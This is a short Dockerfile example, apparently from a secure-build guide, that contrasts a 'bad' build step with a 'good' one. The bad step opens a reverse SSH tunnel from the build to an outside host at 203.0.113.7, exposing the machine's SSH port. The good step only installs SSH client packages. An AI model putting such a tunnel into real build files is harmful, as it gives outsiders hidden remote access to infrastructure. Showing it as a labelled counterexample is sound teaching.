# bad: started in a build
FROM debian:12
RUN apt-get update && ssh -fNR 2222:localhost:22 ops@203.0.113.7
# good: nearly: only installs the client
FROM debian:12
RUN apt-get update && apt-get install -y openssh-client autossh
